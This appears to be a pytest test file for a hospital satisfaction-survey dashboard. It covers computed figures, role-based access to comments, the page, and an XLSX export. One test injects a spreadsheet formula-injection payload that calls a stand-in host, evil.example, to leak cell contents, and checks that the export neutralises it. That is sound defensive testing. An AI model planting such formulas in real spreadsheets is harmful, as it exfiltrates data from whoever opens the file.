"""Survey results: figures against hand-computed values, scoping, comments, the export, query counts."""

from __future__ import annotations

import datetime as dt
import hashlib
import uuid
from io import BytesIO
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from django.http import Http404
from django.utils import timezone
from openpyxl import load_workbook

from yilian.core.models import AuditAction, AuditEvent
from yilian.core.permissions import Role
from yilian.registry import services as registry_services
from yilian.registry.models import Department, Institution, User
from yilian.surveys import selectors
from yilian.surveys.models import (
    Channel,
    Questionnaire,
    QuestionnaireVersion,
    SurveyAnswer,
    SurveyKind,
    SurveyResponse,
    SurveyToken,
)
from yilian.surveys.selectors import ResultFilters, Share
from yilian.surveys.text import group_comments, words_of

pytestmark = pytest.mark.django_db

URL = "/surveys/results/"
EXPORT = "/surveys/results/export.xlsx"
PERIOD = {"date_from": "2026-01-01", "date_to": "2026-03-31"}


def _version(kind: str) -> QuestionnaireVersion:
    version = Questionnaire.objects.get(consortium__isnull=True, kind=kind).current_version()
    assert version is not None
    return version


def _at(day: dt.date, hour: int = 10) -> dt.datetime:
    return timezone.make_aware(dt.datetime.combine(day, dt.time(hour)))


def _token(
    institution: Institution,
    kind: str,
    day: dt.date,
    *,
    channel: str = Channel.QR,
    department: Department | None = None,
) -> SurveyToken:
    return SurveyToken.objects.create(
        token_hash=hashlib.sha256(uuid.uuid4().bytes).hexdigest(),
        version=_version(kind),
        kind=kind,
        institution=institution,
        department=department,
        channel=channel,
        issued_at=_at(day, 9),
        expires_at=_at(day, 9) + dt.timedelta(days=14),
    )


def respond(
    code: str,
    day: dt.date,
    scores: dict[str, int],
    *,
    kind: str = SurveyKind.OUTPATIENT,
    comment: str | None = None,
    channel: str = Channel.QR,
    department: Department | None = None,
) -> SurveyResponse:
    """One response: each Likert item of a dimension in ``scores`` gets that score, the others stay unanswered."""
    institution = Institution.objects.get(code=code)
    token = _token(institution, kind, day, channel=channel, department=department)
    token.used_at = _at(day)
    token.save(update_fields=["used_at"])
    version = token.version
    response = SurveyResponse.objects.create(
        version=version, kind=kind, institution=institution, department=department, day=day
    )
    for item in version.items:
        if item["type"] == "likert" and item["dimension"] in scores:
            SurveyAnswer.objects.create(
                response=response, item_key=item["key"], dimension=item["dimension"], likert=scores[item["dimension"]]
            )
        elif item["type"] == "text" and comment is not None:
            SurveyAnswer.objects.create(response=response, item_key=item["key"], dimension="comment", text=comment)
    return response


def clear(code: str) -> None:
    """Remove the demo's survey history of one institution (inside the test's transaction)."""
    SurveyAnswer.objects.filter(response__institution__code=code).delete()
    SurveyResponse.objects.filter(institution__code=code).delete()
    SurveyToken.objects.filter(institution__code=code).delete()


@pytest.fixture
def known() -> Institution:
    """A small known set at qzph, outpatients, January to March 2026.

    Encounter links (QR): R1..R5 answered, three more unanswered -> 8 issued, 5 answered.
    Poster links: 3 issued, one answered (R6) -> in neither part of the response rate.
      R1 2026-01-10 overall 5, waiting 2, access 4, comment "等候时间太长，挂号也慢"
      R2 2026-01-20 overall 4, waiting 4, comment "" (an empty text is no comment)
      R3 2026-02-05 overall 3, waiting 5, access 1, comment "停车太难，等候太久"
      R4 2026-02-15 overall 1
      R5 2026-03-01 overall 5, waiting 3, comment "专家很好，挂号方便"
      R6 2026-03-02 overall 4 (poster)
    Outside the filters: an inpatient answer (overall 1) and an outpatient one on 2025-12-31 (overall 1).
    """
    clear("qzph")
    respond("qzph", dt.date(2026, 1, 10), {"overall": 5, "waiting": 2, "access": 4}, comment="等候时间太长，挂号也慢")
    respond("qzph", dt.date(2026, 1, 20), {"overall": 4, "waiting": 4}, comment="")
    respond("qzph", dt.date(2026, 2, 5), {"overall": 3, "waiting": 5, "access": 1}, comment="停车太难，等候太久")
    respond("qzph", dt.date(2026, 2, 15), {"overall": 1})
    respond("qzph", dt.date(2026, 3, 1), {"overall": 5, "waiting": 3}, comment="专家很好，挂号方便")
    respond("qzph", dt.date(2026, 3, 2), {"overall": 4}, channel=Channel.POSTER)
    qzph = Institution.objects.get(code="qzph")
    for _ in range(3):
        _token(qzph, SurveyKind.OUTPATIENT, dt.date(2026, 2, 10))
    for _ in range(2):
        _token(qzph, SurveyKind.OUTPATIENT, dt.date(2026, 2, 10), channel=Channel.POSTER)
    respond("qzph", dt.date(2026, 2, 1), {"overall": 1}, kind=SurveyKind.INPATIENT, comment="饭菜不好")
    respond("qzph", dt.date(2025, 12, 31), {"overall": 1}, comment="去年的留言")
    return qzph


def _filters(institution: Institution, **kwargs: Any) -> ResultFilters:
    defaults: dict[str, Any] = {
        "kind": SurveyKind.OUTPATIENT,
        "start": dt.date(2026, 1, 1),
        "end": dt.date(2026, 4, 1),
    }
    return ResultFilters(institution=institution, **{**defaults, **kwargs})


def _user_with(role: Role, code: str, username: str) -> User:
    user = registry_services.user_create(
        actor=None, username=username, password="x-Very-long-pass-42", display_name=username
    )
    registry_services.membership_grant(actor=None, user=user, role=role, institution=Institution.objects.get(code=code))
    return user


# -- figures ------------------------------------------------------------------------------------


def test_figures_match_the_hand_computed_values(known, persona) -> None:
    results = selectors.survey_results(persona("quality"), _filters(known))

    # Six responses in the period (R1..R6): the poster answer counts as a response.
    assert results.responses == 6
    # Overall: 5, 4, 3, 1, 5, 4 -> satisfied (4 or 5): R1, R2, R5, R6 = 4 of 6 = 66.7 %.
    assert results.overall == Share(4, 6)
    assert results.overall.percent == 66.7
    # Waiting: 2, 4, 5, 3 (R4 and R6 left it unanswered) -> 2 of 4 = 50 %.
    assert results.dimensions["waiting"] == Share(2, 4)
    assert results.dimensions["waiting"].percent == 50.0
    # Access: 4, 1 -> 1 of 2.
    assert results.dimensions["access"] == Share(1, 2)
    assert list(results.dimensions) == ["access", "waiting", "overall"]  # in the order of the dimensions
    # Three non-empty comments (R2's empty text is none).
    assert results.comments == 3


def test_response_rate_counts_encounter_links_only(known, persona) -> None:
    results = selectors.survey_results(persona("quality"), _filters(known))

    # QR links: R1..R5 answered plus three unanswered = 5 of 8 = 62.5 %; the 3 poster links are left out.
    assert results.links == Share(5, 8)
    assert results.links.percent == 62.5


def test_monthly_trend(known, persona) -> None:
    months = selectors.survey_results(persona("quality"), _filters(known)).months

    # January R1, R2 (5, 4): 2 of 2; February R3, R4 (3, 1): 0 of 2; March R5, R6 (5, 4): 2 of 2.
    assert [(m.month, m.responses, m.overall, m.overall.percent) for m in months] == [
        (dt.date(2026, 1, 1), 2, Share(2, 2), 100.0),
        (dt.date(2026, 2, 1), 2, Share(0, 2), 0.0),
        (dt.date(2026, 3, 1), 2, Share(2, 2), 100.0),
    ]
    assert months[0].dimensions["waiting"] == Share(1, 2)  # R1 waiting 2 (no), R2 waiting 4 (yes)


def test_kind_and_period_filters(known, persona) -> None:
    quality = persona("quality")

    inpatient = selectors.survey_results(quality, _filters(known, kind=SurveyKind.INPATIENT))
    every_kind = selectors.survey_results(quality, _filters(known, kind=""))
    no_period = selectors.survey_results(quality, _filters(known, start=None, end=None))

    assert (inpatient.responses, inpatient.overall) == (1, Share(0, 1))
    assert (every_kind.responses, every_kind.overall) == (7, Share(4, 7))
    assert (no_period.responses, no_period.overall) == (7, Share(4, 7))  # with the 2025-12-31 answer


def test_before_and_after_a_pivot_date(known, persona) -> None:
    before_after = selectors.survey_before_after(persona("quality"), _filters(known), pivot=dt.date(2026, 2, 1))

    # Before: R1, R2 (overall 5, 4) -> 2 of 2. From 2026-02-01: R3..R6 (3, 1, 5, 4) -> 2 of 4.
    assert (before_after.responses_before, before_after.responses_after) == (2, 4)
    assert before_after.overall == (Share(2, 2), Share(2, 4))
    # Waiting before: R1 2, R2 4 -> 1 of 2; after: R3 5, R5 3 -> 1 of 2.
    rows = {d: (b, a) for d, b, a in before_after.rows}
    assert rows["waiting"] == (Share(1, 2), Share(1, 2))
    assert rows["access"] == (Share(1, 1), Share(0, 1))


def test_a_department_filter_narrows_to_its_answers(known, persona) -> None:
    department = Department.objects.filter(institution=known).first()
    assert department is not None
    respond("qzph", dt.date(2026, 1, 15), {"overall": 2}, department=department)

    results = selectors.survey_results(persona("quality"), _filters(known, department=department))

    assert (results.responses, results.overall, results.links) == (1, Share(0, 1), Share(1, 1))


# -- scope ---------------------------------------------------------------------------------------


def test_another_hospitals_admin_sees_nothing_of_qzph(known, client) -> None:
    admin = _user_with(Role.HOSPITAL_ADMIN, "csph", "csph-admin")
    qzph = known

    assert not selectors.results_institutions_visible_to(admin).filter(pk=qzph.pk).exists()
    assert list(selectors.results_institutions_visible_to(admin).values_list("code", flat=True)) == ["csph"]
    with pytest.raises(PermissionDenied):
        selectors.survey_results(admin, _filters(qzph))
    with pytest.raises(PermissionDenied):
        selectors.access_results_institution(admin, "qzph")
    assert "qzph" not in {
        Institution.objects.get(pk=i).code
        for i in selectors.satisfaction_indicators(admin, start=dt.date(2026, 1, 1), end=dt.date(2026, 4, 1))
    }
    client.force_login(admin)
    assert client.get(URL, {"institution": "qzph"}).status_code == 403
    assert client.get(EXPORT, {"institution": "qzph"}).status_code == 403
    page = client.get(URL)
    assert page.status_code == 200
    assert page.context["institution"].code == "csph"


def test_who_sees_which_institutions(persona) -> None:
    def codes(username: str) -> set[str]:
        return set(selectors.results_institutions_visible_to(persona(username)).values_list("code", flat=True))

    assert codes("quality") == codes("hospadmin") == {"qzph"}
    assert {"zju2", "qzph", "qz2ph", "khph"} <= codes("office")
    assert "bjfph" not in codes("office")
    assert "qzph" in codes("commission")
    assert "zju2" not in codes("commission")  # Hangzhou is outside the Quzhou commission's region
    assert codes("doctor") == codes("expert") == codes("coordinator") == set()
    assert codes("admin") == set(Institution.objects.values_list("code", flat=True))


def test_only_the_quality_staff_read_the_comments(known, persona, login) -> None:
    quality, filters = persona("quality"), _filters(known)

    assert [c.text for c in selectors.survey_comments(quality, filters)] == [
        "专家很好，挂号方便",
        "停车太难，等候太久",
        "等候时间太长，挂号也慢",
    ]
    for username in ("hospadmin", "commission", "office", "admin"):
        with pytest.raises(PermissionDenied):
            selectors.survey_comments(persona(username), filters)

    query = {"institution": "qzph", "kind": "outpatient", **PERIOD}
    page = login("quality").get(URL, query).content.decode()
    assert "停车太难，等候太久" in page
    assert 'id="results-comments"' in page
    for username in ("hospadmin", "commission", "office"):
        page = login(username).get(URL, query).content.decode()
        assert 'id="stat-comments">3<' in page  # the count, never the text
        assert "停车太难" not in page
        assert "等候时间太长" not in page
        assert 'id="results-comments"' not in page


def test_quality_staff_of_another_hospital_do_not_read_qzph_comments(known) -> None:
    other = _user_with(Role.QUALITY_STAFF, "csph", "csph-quality")

    with pytest.raises(PermissionDenied):
        selectors.survey_comments(other, _filters(known))


def test_a_system_administrator_at_the_hospital_does_not_read_its_comments(known) -> None:
    """Every permission is not the hospital's quality office: comments follow the role, not the rights."""
    admin = _user_with(Role.SYSTEM_ADMIN, "qzph", "qzph-sysadmin")
    assert selectors.survey_results(admin, _filters(known)).comments == 3
    with pytest.raises(PermissionDenied):
        selectors.survey_comments(admin, _filters(known))


def test_the_commission_sees_the_aggregates(known, login) -> None:
    response = login("commission").get(URL, {"institution": "qzph", "kind": "outpatient", **PERIOD})

    assert response.status_code == 200
    page = response.content.decode()
    assert 'id="stat-responses">6<' in page
    assert 'id="stat-overall">66.7 %<' in page
    assert 'id="stat-rate">62.5 %<' in page


def test_users_without_the_permission_get_403_and_no_nav_link(login) -> None:
    doctor = login("doctor")
    assert doctor.get(URL).status_code == 403
    assert doctor.get(EXPORT).status_code == 403
    assert 'id="nav-satisfaction"' not in doctor.get("/").content.decode()
    assert 'id="nav-satisfaction"' in login("quality").get("/").content.decode()


# -- the page ----------------------------------------------------------------------------------


def test_the_dashboard_shows_figures_trend_and_before_after(known, login) -> None:
    query = {"institution": "qzph", "kind": "outpatient", "pivot": "2026-02-01", **PERIOD}
    response = login("quality", "en").get(URL, query)

    assert response.status_code == 200
    page = response.content.decode()
    assert 'id="stat-overall">66.7 %<' in page
    assert page.count('class="trend-bar"') == 3
    assert 'id="results-before-after"' in page
    assert "Before and after 2026-02-01" in page
    table = page.split('id="results-before-after"')[1]
    assert ">-50.0<" in table  # overall: 100 % before, 50 % after
    assert "挂号" in page.split('id="results-comments"')[1]  # a recurring word


def test_the_default_period_is_the_last_twelve_months(login) -> None:
    """At a hospital that hosts no stationing programme (Changshan county)."""
    response = login("commission").get(URL, {"institution": "csph"})

    assert response.status_code == 200
    form = response.context["form"]
    today = timezone.localdate()
    assert form.cleaned_data["date_to"] == today
    assert form.cleaned_data["date_from"].day == 1
    assert 330 <= (today - form.cleaned_data["date_from"]).days <= 366
    assert response.context["results"].responses > 0  # the demo history
    assert response.context["form"].cleaned_data["programme"] == ""


def test_a_first_visit_to_a_host_opens_on_the_year_around_its_latest_programme(login) -> None:
    """Quzhou People's Hospital's batch 2 began 2025-09-01: the page widens the period to a year
    before it and compares around it, without being asked."""
    response = login("quality").get(URL)

    assert response.status_code == 200
    cleaned = response.context["form"].cleaned_data
    assert cleaned["programme"] == "zju2-qzph-2"
    assert cleaned["date_from"] == dt.date(2024, 9, 1) and cleaned["date_to"] == timezone.localdate()
    split = response.context["before_after"]
    assert split.pivot == dt.date(2025, 9, 1) and split.responses_before > 0 and split.responses_after > 0
    assert "浙大二院派驻衢州市人民医院（第二批）" in response.content.decode()


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"date_from": "2026-03-01", "date_to": "2026-01-01"}, "The end of the period comes before its start."),
        ({"date_from": "yesterday"}, "Enter a valid date."),
        ({"date_from": "0001-01-01"}, "Choose a date between 1900 and 9998."),
        ({"kind": "dental"}, "Select a valid choice."),
        ({"department": str(uuid.uuid4())}, "Select a valid choice."),
        ({**PERIOD, "pivot": "2025-06-01"}, "Choose a day inside the period, after its first day."),
    ],
)
def test_bad_filters_answer_400_with_the_reason(login, query, message) -> None:
    client = login("quality", "en")

    page = client.get(URL, {"institution": "qzph", **query})
    export = client.get(EXPORT, {"institution": "qzph", **query})

    assert page.status_code == 400
    assert message in page.content.decode()
    assert export.status_code == 400
    assert message in export.content.decode()


def test_an_unknown_institution_is_404(login) -> None:
    assert login("quality").get(URL, {"institution": "nowhere"}).status_code == 404
    with pytest.raises(Http404):
        selectors.access_results_institution(User.objects.get(username="admin"), "nowhere")


PINNED_QUERIES = 18


def test_dashboard_query_count_is_pinned_and_does_not_grow_with_data(known, login, django_assert_num_queries) -> None:
    """Session (read and refresh: 4), user, scope, institutions, departments, programmes hosted, the figures (4),
    before/after (3), comments, unread notifications."""
    client = login("quality")
    query = {"institution": "qzph", "pivot": "2026-02-01", **PERIOD}
    client.get(URL, query)
    with django_assert_num_queries(PINNED_QUERIES):
        assert client.get(URL, query).status_code == 200
    for i in range(20):
        day = dt.date(2026, 1 + i % 3, 1 + i)
        respond("qzph", day, {"overall": 1 + i % 5, "waiting": 3}, comment=f"等候第{i}次", kind=SurveyKind.INPATIENT)
    with django_assert_num_queries(PINNED_QUERIES):
        assert client.get(URL, query).status_code == 200


# -- export --------------------------------------------------------------------------------------


def _workbook(content: bytes) -> Any:
    return load_workbook(BytesIO(content))


def test_the_quality_staff_export_figures_months_and_comments(known, login) -> None:
    before = AuditEvent.objects.filter(action=AuditAction.EXPORT).count()
    response = login("quality", "en").get(
        EXPORT, {"institution": "qzph", "kind": "outpatient", "pivot": "2026-02-01", **PERIOD}
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "satisfaction-qzph-2026-01-01-2026-03-31.xlsx" in response["Content-Disposition"]
    wb = _workbook(response.content)
    assert wb.sheetnames == ["Summary", "By month", "Before and after", "Comments"]
    summary = {row[0]: row[1] for row in wb["Summary"].iter_rows(values_only=True) if row and row[0]}
    assert summary["Responses"] == 6
    assert summary["Response rate (%)"] == 62.5
    assert summary["Period"] == "2026-01-01 – 2026-03-31"
    dimensions = {row[0]: row[1:] for row in wb["Summary"].iter_rows(values_only=True) if row and row[0]}
    assert dimensions["Overall satisfaction"] == (6, 4, 66.7)
    months = list(wb["By month"].iter_rows(values_only=True))
    assert months[0][:5] == ("Month", "Responses", "Access and registration (%)", "Access and registration: ratings",
                             "Access and registration: satisfied")  # fmt: skip
    overall_column = months[0].index("Overall satisfaction (%)")
    assert [(row[0], row[1], row[overall_column]) for row in months[1:]] == [
        ("2026-01", 2, 100.0),
        ("2026-02", 2, 0.0),
        ("2026-03", 2, 100.0),
    ]
    before_after = {row[0]: row[1:3] for row in wb["Before and after"].iter_rows(values_only=True) if row and row[0]}
    assert before_after["Overall satisfaction"] == (100.0, 50.0)
    comments = [row[3] for row in wb["Comments"].iter_rows(min_row=2, values_only=True)]
    assert comments == ["专家很好，挂号方便", "停车太难，等候太久", "等候时间太长，挂号也慢"]
    event = AuditEvent.objects.filter(action=AuditAction.EXPORT).latest("id")
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT).count() == before + 1
    assert (event.actor.username, event.object_id) == ("quality", str(known.public_id))  # type: ignore[union-attr]
    assert event.changes["comments"] == 3


def test_a_comment_that_looks_like_a_formula_is_exported_as_text(known, login) -> None:
    respond("qzph", dt.date(2026, 3, 20), {"overall": 5}, comment='=HYPERLINK("http://evil.example/?x="&A1,"ok")')
    response = login("quality", "en").get(EXPORT, {"institution": "qzph", "kind": "outpatient", **PERIOD})
    cells = [row[3] for row in _workbook(response.content)["Comments"].iter_rows(min_row=2)]
    hostile = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert hostile.data_type == "s" and str(hostile.value).startswith("'=")


def test_an_export_by_anyone_else_holds_no_comment(known, login) -> None:
    response = login("commission", "en").get(EXPORT, {"institution": "qzph", "kind": "outpatient", **PERIOD})

    assert response.status_code == 200
    wb = _workbook(response.content)
    assert wb.sheetnames == ["Summary", "By month"]
    cells = {str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if c is not None}
    assert not any("等候" in c or "停车" in c for c in cells)
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, actor__username="commission").exists()


# -- indicator inputs ----------------------------------------------------------------------------


def test_indicator_inputs_per_institution_and_kind(known, persona) -> None:
    respond("qzph", dt.date(2026, 2, 3), {"overall": 5}, kind=SurveyKind.STAFF)
    respond("qzph", dt.date(2026, 2, 4), {"overall": 2}, kind=SurveyKind.STAFF)
    respond("qzph", dt.date(2026, 2, 5), {"overall": 4}, kind=SurveyKind.REFERRED)
    commission = persona("commission")
    period: dict[str, Any] = {"start": dt.date(2026, 1, 1), "end": dt.date(2026, 4, 1)}

    figures = selectors.satisfaction_indicators(commission, **period)[known.pk]

    # Outpatient 4 of 6 (the known set), inpatient 0 of 1, referred 1 of 1, staff 1 of 2.
    assert (figures.outpatient, figures.inpatient, figures.referred, figures.staff) == (
        Share(4, 6),
        Share(0, 1),
        Share(1, 1),
        Share(1, 2),
    )
    assert selectors.outpatient_satisfaction(commission, **period, institution_ids=[known.pk]) == {
        known.pk: Share(4, 6)
    }
    assert selectors.inpatient_satisfaction(commission, **period, institution_ids=[known.pk]) == {known.pk: Share(0, 1)}
    assert selectors.referred_satisfaction(commission, **period, institution_ids=[known.pk]) == {known.pk: Share(1, 1)}
    assert selectors.staff_satisfaction(commission, **period, institution_ids=[known.pk])[known.pk].percent == 50.0
    bjfph = Institution.objects.get(code="bjfph")
    assert bjfph.pk not in selectors.satisfaction_indicators(commission, **period)  # outside Quzhou
    with pytest.raises(PermissionDenied):
        selectors.satisfaction_indicators(persona("doctor"), **period)


# -- comment words ---------------------------------------------------------------------------------


def test_comments_are_grouped_by_recurring_words() -> None:
    texts = ["等候时间太长，挂号也慢", "停车太难，等候太久", "专家很好，挂号方便", "停车位太少", "专家门诊好"]

    groups = group_comments(texts, top=4)

    # 等候: texts 1, 2; 挂号: 1, 3; 停车: 2, 4 (停车位 counts as 停车); 专家: 3, 5 (专家门诊 as 专家).
    assert [(g.word, g.count) for g in groups] == [("专家", 2), ("停车", 2), ("挂号", 2), ("等候", 2)]
    assert groups[1].comments == ("停车太难，等候太久", "停车位太少")
    assert "很" not in words_of("医生很好很耐心")  # stop words and single characters are left out
    assert group_comments([]) == []
